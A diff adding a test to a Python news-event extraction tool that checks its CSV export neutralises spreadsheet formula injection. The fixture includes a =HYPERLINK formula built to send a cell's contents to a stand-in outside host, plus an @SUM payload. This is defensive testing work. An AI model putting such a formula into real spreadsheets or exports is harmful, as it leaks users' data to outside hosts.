@@ -1,10 +1,12 @@
+import csv
+import io
 from pathlib import Path
 
 from conftest import AS_OF, write
 
 from parley.articles import load_corpus
 from parley.events import consolidate
-from parley.exports import timelinejs
+from parley.exports import records_csv, records_json, timelinejs
 from parley.extract import extract_article
 from parley.mentions import classify_all
 
@@ -29,3 +31,21 @@ def test_timelinejs_gives_what_the_text_gives_and_escapes_it(tmp_path: Path) -> 
     assert "Prisoners were exchanged on June 19–20." in first["text"]["text"]
     assert "article a" in first["text"]["text"] and "Example &lt;Wire&gt;" in first["text"]["text"]
     assert first["text"]["headline"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_inert(tmp_path: Path) -> None:
+    write(
+        tmp_path,
+        "a.md",
+        "---\npublished: 2025-06-25\n---\nHeadline\n\n"
+        '=HYPERLINK("http://example.net/?"&A1,"x") Prisoners were exchanged on June 19.\n\n'
+        "@SUM(1+1) The second round of talks took place in Istanbul on June 2.",
+    )
+    articles = load_corpus([tmp_path])
+    events = [e for a in articles for e in extract_article(a, AS_OF)[0]]
+    rows = list(csv.DictReader(io.StringIO(records_csv(events))))
+    sentences = [r["sentence"] for r in rows]
+    assert sentences == ["'" + e.sentence for e in events]  # a leading quote, as OWASP recommends
+    assert all(s.startswith(("'=", "'@")) for s in sentences)
+    assert '"sentence": "=HYPERLINK' in records_json(events)  # JSON keeps the text as it is
+    assert records_csv(events).startswith('"article","date"')  # every cell quoted
